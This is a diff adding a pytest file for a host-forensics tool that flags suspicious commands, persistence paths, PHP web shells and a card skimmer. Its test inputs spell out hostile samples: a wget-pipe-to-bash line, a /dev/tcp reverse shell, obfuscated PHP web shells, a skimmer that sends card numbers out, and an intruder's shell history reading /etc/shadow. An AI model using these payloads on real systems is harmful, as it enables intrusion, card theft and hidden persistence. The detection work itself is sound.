@@ -1,0 +1,171 @@
+"""What a line starts, where that lies, what it does, and what a file of a web site does: whatever their names."""
+
+from __future__ import annotations
+
+import hashlib
+from pathlib import Path
+
+import pytest
+
+from stopgap.orchestrator.findings import judge, shipped_rules
+from stopgap.orchestrator.findings.provenance.acts import acts_of
+from stopgap.orchestrator.findings.provenance.commands import programs
+from stopgap.orchestrator.findings.provenance.mechanisms import MECHANISMS, mechanisms_of
+from stopgap.orchestrator.findings.provenance.places import is_hidden, place_of
+from stopgap.orchestrator.findings.provenance.served import signs_of_php, signs_of_script
+from stopgap.orchestrator.findings.provenance.typed import purposes
+
+from .collection import collected
+
+DIGESTS = "d41d8cd98f00b204e9800998ecf8427e  usr/bin/true\n"
+RULES = shipped_rules()
+
+
+@pytest.mark.parametrize(
+    ("line", "started"),
+    [
+        ("/usr/lib/x >/dev/null 2>&1 &", ("/usr/lib/x",)),
+        ("sh -c '/opt/a; exec nohup /opt/b -v'", ("/opt/a", "/opt/b")),
+        ("env A=1 nice -n 5 timeout 30 /opt/a", ("/opt/a",)),
+        ("sudo -u www-data setsid /opt/a", ("/opt/a",)),
+        ("[ -x /opt/a ] && /opt/a || true", ("/opt/a", "true")),
+        ("/usr/bin/python3 -u /opt/b.py --x", ("/opt/b.py",)),
+        ("python3 -m http.server", ("python3",)),
+        (". /opt/env", ("/opt/env",)),
+        ("su - anna -c '/opt/a b'", ("/opt/a",)),
+        ("cd / && (/opt/a; /opt/b)", ("cd", "/opt/a", "/opt/b")),
+        ("busybox sh -c /opt/a", ("/opt/a",)),
+        ("echo '/opt/a' > /opt/b", ("echo",)),
+    ],
+)
+def test_wrappers_and_interpreters_are_seen_through(line: str, started: tuple[str, ...]) -> None:
+    assert programs(line) == started
+
+
+@pytest.mark.parametrize("line", ["'" * 5000, "(" * 5000, "sh -c " * 2000, "a=" * 4000, "\\" * 4000, "`" * 4000])
+def test_a_line_without_end_starts_few_programs(line: str) -> None:
+    assert len(programs(line)) <= 32
+
+
+def test_places_are_told_apart_and_developers_tools_are_not_hidden() -> None:
+    paths = ("/usr/lib/x", "/usr/local/bin/x", "/srv/x", "/dev/shm/x", "/var/spool/x")
+    assert [place_of(path) for path in paths] == ["system", "local", "local", "open", "data"]
+    dotted = ("/home/a/.nvm/x", "/home/a/.nvm/.x", "/root/.config/.x/y", "/etc/a.d/b")
+    assert [is_hidden(path) for path in dotted] == [False, True, True, False]
+
+
+@pytest.mark.parametrize(
+    ("line", "act"),
+    [
+        ("wget -qO- https://example.net/x | bash", "fetch and run"),
+        ("bash -c 'exec 3<>/dev/tcp/192.0.2.1/443'", "shell to elsewhere"),
+        ("echo aGk= | base64 -d | sh", "decode"),
+        ("(nohup /opt/x &)", "runs on behind"),
+        ("export LD_PRELOAD=/usr/lib/x.so", "library before others"),
+    ],
+)
+def test_a_line_is_known_by_what_it_does(line: str, act: str) -> None:
+    assert act in acts_of(line)
+
+
+@pytest.mark.parametrize("line", ["ls -l | grep x", "curl -I https://example.com", "base64 -d a > b", "make && ./a"])
+def test_daily_work_does_none_of_that(line: str) -> None:
+    assert acts_of(line) == ()
+    assert purposes(line) == ()
+
+
+def test_each_mechanism_has_a_name_and_a_pattern_that_some_path_fits() -> None:
+    assert len(MECHANISMS) > 80
+    for path, name in {
+        "/etc/cron.d/x": "cron",
+        "/etc/systemd/system/x.service": "systemd unit",
+        "/etc/udev/rules.d/x.rules": "udev rule",
+        "/etc/apt/apt.conf.d/x": "apt",
+        "/root/.bashrc": "shell start file of a person",
+        "/etc/pam.d/sshd": "PAM",
+        "/home/a/x/.git/hooks/post-merge": "git hook",
+        "/etc/kubernetes/manifests/x.yaml": "static pod",
+    }.items():
+        assert name in {each.name for each in mechanisms_of(path)}
+    assert mechanisms_of("/home/a/notes.txt") == ()
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        b"<?php $k='as'.'se'.'rt'; $k($x);",
+        b'<?php $a = "\\x73\\x79\\x73\\x74\\x65\\x6d"; $a($b);',
+        b"<?php $f = strrev('metsys'); $f($x);",
+        b"<?php $f = $_COOKIE['a']; $f($_COOKIE['b']);",
+        b"<?php array_map($_POST['f'], [$_POST['a']]);",
+        b"<?php echo `$_GET[c]`;",
+        b"<?php new $_GET['c']($_GET['d']);",
+        b"<?php include '/tmp/x';",
+        b'<?php include "img/a.png";',
+        b"<?php file_put_contents($_POST['n'], $_POST['c']);",
+    ],
+)
+def test_php_that_runs_what_it_is_sent_is_seen_whatever_its_words(code: bytes) -> None:
+    assert max(sign.weight for sign in signs_of_php(code)) >= 2
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        b"<?php $ids = array_map( 'intval', (array) $_REQUEST['users'] );",
+        b"<?php $p = preg_replace( '|^.*/wp-admin/|i', '', $_SERVER['PHP_SELF'] );",
+        b"<?php // pass it as `$_POST` please",
+        b"<?php include __DIR__ . '/x.php'; $fn = 'strtoupper'; echo $fn('a');",
+        b"<?php $db->exec($sql); $x = base64_decode($y);",
+    ],
+)
+def test_php_of_every_day_is_spared(code: bytes) -> None:
+    assert list(signs_of_php(code)) == []
+
+
+def test_a_skimmer_needs_a_card_a_way_out_and_something_encoded() -> None:
+    skimmer = b"var c=document.querySelector('[name=cc_number]').value;(new Image()).src=atob('eA==')+btoa(c)"
+    assert list(signs_of_script("x.js", skimmer))
+    assert not list(signs_of_script("x.js", b"document.querySelector('[name=cc_number]').focus()"))
+    assert not list(signs_of_script("x.js", b"fetch('/cart').then(function (r) { return r.json() })"))
+
+
+def loud(tmp_path: Path, planted: dict[str, object]) -> dict[str, str]:
+    found = judge(collected(tmp_path, {"package-digests": DIGESTS, "configuration": {}, **planted}), RULES).findings
+    worst_last = [finding for finding in reversed(found) if finding.severity != "info"]
+    return {sighting.about: finding.severity for finding in worst_last for sighting in finding.seen}
+
+
+def test_a_job_is_low_until_it_leads_to_a_program_of_no_package_among_the_systems_own(tmp_path: Path) -> None:
+    body = "0|/usr/lib/cache|1|-rwxr-xr-x|0|0|9|1.0|1.0|1.0|0.0\n"
+    plain = {"cron": {"/etc/cron.d/a": "1 2 * * * root /usr/local/bin/a\n"}}
+    odd = {"cron": {"/etc/cron.d/a": "1 2 * * * root nice /usr/lib/cache\n"}, "bodyfile": body}
+    assert loud(tmp_path / "plain", plain) == {"/etc/cron.d/a": "low"}
+    assert loud(tmp_path / "odd", odd)["/etc/cron.d/a"] == "medium"
+
+
+def test_a_file_as_its_package_brought_it_raises_nothing_even_under_another_name(tmp_path: Path) -> None:
+    text = "<?php eval($_POST['code']); // a web shell by every word of it\n"
+    digests = f"{hashlib.md5(text.encode()).hexdigest()}  usr/share/wordpress/x.php\n"
+    assert loud(tmp_path, {"web-code": {"/var/www/html/x.php": text}, "package-digests": digests}) == {}
+
+
+def test_a_maintainer_script_that_changed_after_its_package_came_is_high(tmp_path: Path) -> None:
+    info, script = "/var/lib/dpkg/info", "#!/bin/sh\nset -e\n/usr/lib/x\n"
+    body = (
+        f"0|{info}/cron.list|1|-rw-r--r--|0|0|9|1.0|1.0|1795000000.0|0.0\n"
+        f"0|{info}/cron.postinst|1|-rwxr-xr-x|0|0|9|1.0|1.0|1795090000.0|0.0\n"
+        f"0|{info}/cron.prerm|1|-rwxr-xr-x|0|0|9|1.0|1.0|1795000003.0|0.0\n"
+    )
+    planted = {
+        "maintainer-scripts": {f"{info}/cron.{part}": script for part in ("postinst", "prerm")},
+        "bodyfile": body,
+    }
+    assert loud(tmp_path, planted) == {f"{info}/cron.postinst": "high"}
+
+
+def test_an_administrators_history_is_quiet_and_an_intruders_is_not(tmp_path: Path) -> None:
+    daily = "crontab -e\ncat id.pub >> ~/.ssh/authorized_keys\nssh root@spare\nrm latest.tar.gz\nchmod 4755 /opt/x\n"
+    assert loud(tmp_path / "daily", {"histories": {"/root/.bash_history": daily}}) == {}
+    worse = daily + "wget http://198.51.100.9/k\nhistory -c\ncat /etc/shadow\n"
+    assert loud(tmp_path / "worse", {"histories": {"/root/.bash_history": worse}}) == {"/root/.bash_history": "high"}
